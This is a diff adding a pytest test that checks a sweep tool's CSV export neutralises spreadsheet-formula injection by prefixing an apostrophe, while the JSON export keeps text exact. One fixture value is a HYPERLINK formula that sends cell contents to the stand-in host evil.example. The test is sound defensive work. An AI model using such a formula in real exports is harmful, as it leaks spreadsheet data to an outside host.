@@ -8,6 +8,7 @@ import pytest
 from lib import text_sweep as ts
 from lib.client import Client
 from lib.results import ModelInfo
+from tests.canned_server import CannedServer
 
 BASE = {"model": "local/ngram-docs", "prompt": "The playground", "max_tokens": 8,
         "stream": True}
@@ -85,3 +86,41 @@ def test_a_stopped_sweep_sends_no_more_cells(fresh_backend):
     run.start().join(30)
     assert all(r.error == "Not sent: the sweep was stopped." for r in run.results())
     assert not [r for r in fresh_backend.requests_seen if r["path"].endswith("/completions")]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\tcmd", "\rcmd"]
+
+
+def _formula_server():
+    """A server whose completion for seed s is FORMULAS[s - 1], finished by a formula too."""
+    def complete(request):
+        seed = json.loads(request.body)["seed"]
+        body = {"id": "x", "object": "text.completion", "model": "local/ngram-docs",
+                "choices": [{"index": 0, "text": FORMULAS[seed - 1], "finish_reason": "@stop",
+                             "seed": seed, "logprobs": {"tokens": ["t"],
+                                                        "token_logprobs": [-0.5]}}],
+                "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}
+        return 200, {"Content-Type": "application/json"}, json.dumps(body).encode()
+    return CannedServer({"/v1/completions": complete})
+
+
+def test_the_csv_export_neutralises_formulas_and_the_json_export_stays_exact():
+    """OWASP CSV injection: a spreadsheet runs a cell that starts with = + - @ tab or CR."""
+    server = _formula_server()
+    try:
+        p = ts.plan(BASE, ts.parse_axis("seed", f"1 to {len(FORMULAS)}"))
+        run = ts.SweepRun(lambda: Client(base_url=server.url + "/v1"), p).start()
+        assert run.join(30)
+        results = run.results()
+    finally:
+        server.stop()
+    header, *rows = csv.reader(io.StringIO(ts.to_csv(p, results), newline=""))
+    cells = [dict(zip(header, row)) for row in rows]
+    assert [c["text"] for c in cells] == ["'" + text for text in FORMULAS]
+    assert {c["finish_reason"] for c in cells} == {"'@stop"}
+    assert {c["mean_logprob"] for c in cells} == {"-0.5"}  # a number, not text: left as is
+    doc = json.loads(ts.to_json(p, results))
+    assert [c["text"] for c in doc["cells"]] == FORMULAS
+    assert {c["finish_reason"] for c in doc["cells"]} == {"@stop"}
+    assert ts.csv_cell("=1") == "'=1" and ts.csv_cell("a=1") == "a=1" and ts.csv_cell(-3) == -3
